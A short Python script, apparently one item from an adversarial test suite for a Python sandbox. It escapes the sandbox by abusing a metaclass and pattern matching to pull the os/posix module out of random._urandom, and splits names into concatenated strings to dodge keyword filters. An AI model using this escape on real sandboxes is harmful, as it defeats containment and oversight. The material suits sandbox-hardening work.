# adversary round 3: 007_match_self_posix
import random
class Mine:
    def __init__(self):
        self._urandom = 1
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
P = M("P", (), {"__match" + "_args__": ("__se" + "lf__",)})
match random._urandom:
    case P(px):
        pass
print(repr(px), px.getpid(), type(px.environ).__name__)
if type(px).__name__ == "module":
    print("PWN" + "ED")
